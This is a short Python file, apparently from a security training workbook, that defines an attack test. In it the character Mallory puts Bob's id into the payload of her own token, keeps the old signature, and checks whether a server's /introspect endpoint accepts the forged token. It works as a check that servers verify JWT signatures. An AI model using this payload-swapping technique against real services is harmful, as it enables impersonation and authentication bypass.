"""Mallory writes Bob's id into the payload of her own token and keeps the old signature.

It works where a server reads the payload without checking that the signature still fits it.
"""

import time

from workbook.attacking import Api, attack, forge, reach


@attack(
    "Become Bob by editing the payload of a token",
    route="POST /introspect",
    closes=3,
    see="RFC 7515 §5.2",
    catches="VF-01 VF-07",
)
def edit_payload(api: Api) -> str | None:
    mallory, bob = api.mallory, api.bob
    edited = forge.payload_swapped(mallory.token, sub=bob.id, exp=int(time.time()) + 600)
    seen = reach(
        api.post("/introspect", token=mallory.token, form={"token": edited}, caller="mallory")
    )
    told = seen.json if isinstance(seen.json, dict) else {}
    if told.get("active") is True and told.get("sub") == bob.id:
        return "an edited token that the server takes for Bob's"
    return None
